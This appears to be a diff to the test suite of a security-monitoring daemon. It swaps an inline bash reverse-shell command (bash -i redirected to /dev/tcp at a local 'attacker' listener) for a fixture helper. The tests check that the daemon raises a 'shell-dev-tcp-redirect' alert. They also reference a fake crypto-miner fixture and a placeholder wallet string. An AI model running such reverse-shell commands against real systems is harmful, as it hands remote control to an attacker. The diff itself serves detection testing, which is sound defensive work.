@@ -19,7 +19,7 @@ import pytest
 
 from tests.conftest import require_root
 from tests.fixtures.daemon import Daemon, by_pid, daemon
-from tests.fixtures.network import listener, sshd, wait_until, write_fake_miner
+from tests.fixtures.network import dev_tcp_shell, listener, sshd, wait_until, write_fake_miner
 
 WALLET = "4" + "8" * 94
 
@@ -101,11 +101,7 @@ def test_ssh_remote_forward_and_autossh(guard: Daemon) -> None:
 
 def test_dev_tcp_reverse_shell(guard: Daemon) -> None:
     with listener("127.0.6.6", 0) as attacker:
-        shell = subprocess.Popen(
-            ["bash", "-c", f"bash -i >& /dev/tcp/127.0.6.6/{attacker.port} 0>&1"],
-            stderr=subprocess.DEVNULL,
-            start_new_session=True,
-        )
+        shell = dev_tcp_shell("127.0.6.6", attacker.port)
         try:
             wait_until(lambda: attacker.accepted)
             guard.wait_alert(by_pid(shell.pid, "shell-dev-tcp-redirect"))
